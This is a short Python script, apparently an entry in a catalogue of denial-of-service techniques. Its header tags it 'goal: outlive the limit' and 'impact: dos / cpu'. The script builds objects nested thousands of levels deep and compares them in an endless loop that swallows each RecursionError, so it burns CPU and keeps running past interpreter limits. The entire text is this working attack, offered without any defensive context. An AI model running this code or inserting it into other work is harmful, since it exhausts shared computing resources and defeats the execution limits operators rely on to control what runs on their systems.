# technique: the first comparison of things that hold each other deeply puts each level's code below that of the last, and goes up through all of it
# source: own
# goal: outlive the limit
# impact: dos
# dos: cpu
# needs: soft-limit
import types


def nested():
    x = 1
    for _ in range(9000):
        x = types.SimpleNamespace(a=x)
    return x


while True:
    try:
        nested() == nested()
    except RecursionError:
        pass
